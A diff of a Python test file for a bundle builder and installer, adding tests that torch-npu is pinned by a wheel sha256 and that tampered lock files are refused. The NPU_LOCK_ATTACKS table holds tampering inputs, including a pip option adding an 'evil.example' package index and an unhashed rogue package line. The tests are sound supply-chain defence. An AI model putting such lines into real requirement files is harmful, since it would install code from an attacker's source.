@@ -438,7 +438,11 @@ def test_system_errors_are_one_line_with_json(
         cli, project, "--build-dir", str(build), "dist", "--out", str(tmp_path / "out")
     )
     assert code == 0, out
-    assert list((tmp_path / "out").glob("*.tar.gz"))
+    [archive] = (tmp_path / "out").glob("*.tar.gz")
+    # install --bundle reads no build directory: a read-only one is no concern of it.
+    python = env_python(tmp_path / "env" / "bin" / "python")
+    code, out = _install(cli, project, archive, python, "--sha256-file", f"{archive}.sha256")
+    assert code == 0 and "internal error" not in out, out
 
 
 def test_install_needs_python(cli: CliRunner, project: Path, tmp_path: Path) -> None:
@@ -578,3 +582,61 @@ def test_python_2_is_named_not_called_a_non_interpreter(tmp_path: Path) -> None:
     py2.chmod(0o755)
     with pytest.raises(UsageError, match=r"is Python 2\.7\.18; recsdk-build needs Python >=3\.10"):
         find(str(py2), requires=">=3.10")
+
+
+NPU_LOCK_ATTACKS = {
+    "another version": (lambda t: t.replace("torch-npu==2.6.0", "torch-npu==2.5.1"), "not"),
+    "a pip option": (lambda t: f"--extra-index-url=https://evil.example/simple\n{t}", "line"),
+    "unhashed": (lambda t: t + "evilpkg==0.1\n", "is not `name==version --hash"),
+    "emptied": (lambda t: "", "not torch-npu==2.6.0 alone"),
+}
+
+
+def test_a_cann_bundle_hash_locks_torch_npu(cli: CliRunner, project: Path, tmp_path: Path) -> None:
+    """dist pins torch-npu with the sha256 of the wheel the plugin stage downloaded (the one
+    for the build's Python and architecture); install installs it with --require-hashes; a
+    rewritten torch-npu.lock is refused by the outer digest, and without it by its checks."""
+    archive = _dist(cli, project, tmp_path, "cann")
+    [wheel] = (tmp_path / "build" / "downloads" / "torch_npu").glob("torch_npu-2.6.0-*.whl")
+    top, data = bundle.open_bundle(archive, tmp_path / "unpacked")
+    assert data["install"]["torch_npu_lock"] == "torch-npu.lock"
+    contents = trust.derive(top, data, sorted(bundle.listed(top)))
+    [npu] = contents.npu_locked
+    assert (npu.name, npu.version) == ("torch-npu", "2.6.0")
+    assert npu.hashes == (hashlib.sha256(wheel.read_bytes()).hexdigest(),)
+    plan = installer.make_plan(
+        top, contents, replace(ME, prefix=str(tmp_path / "env")), opp=tmp_path, manifest=data
+    )
+    argvs = [s.argv for s in plan.steps if "pip" in s.argv]
+    assert argvs[1][-5:] == ("install", "--require-hashes", "--no-deps", "-r", "./torch-npu.lock")
+    assert not any("torch-npu==2.6.0" in a for argv in argvs for a in argv)  # never unhashed
+    assert (
+        "pip install --require-hashes --no-deps -r torch-npu.lock"
+        in (top / "INSTALL.md").read_text()
+    )
+    python = env_python(tmp_path / "env" / "bin" / "python")
+    for i, (edit, named) in enumerate(NPU_LOCK_ATTACKS.values()):
+
+        def rewrite(top: Path, edit: Callable[[str], str] = edit) -> None:
+            path = top / "torch-npu.lock"
+            path.write_text(edit(path.read_text()))
+
+        crafted = craft(archive, tmp_path / f"npu{i}.tar.gz", rewrite)
+        code, out = _install(cli, project, crafted, python, "--sha256-file", f"{archive}.sha256")
+        assert code == 1 and "not the expected" in " ".join(out.split()), out
+        ctop, cdata = bundle.open_bundle(crafted, tmp_path / f"c{i}")
+        with pytest.raises(BundleError, match=r"torch-npu\.lock") as refused:
+            trust.derive(ctop, cdata, sorted(bundle.listed(ctop)))
+        assert named in refused.value.message
+
+
+def test_a_sim_bundle_has_no_torch_npu_lock(cli: CliRunner, project: Path, tmp_path: Path) -> None:
+    archive = _dist(cli, project, tmp_path)
+    crafted = craft(
+        archive,
+        tmp_path / "npu.tar.gz",
+        lambda top: (top / "torch-npu.lock").write_text("torch-npu==2.6.0 --hash=sha256:00\n"),
+    )
+    top, data = bundle.open_bundle(crafted, tmp_path / "c")
+    with pytest.raises(BundleError, match=r"unexpected file torch-npu\.lock"):
+        trust.derive(top, data, sorted(bundle.listed(top)))
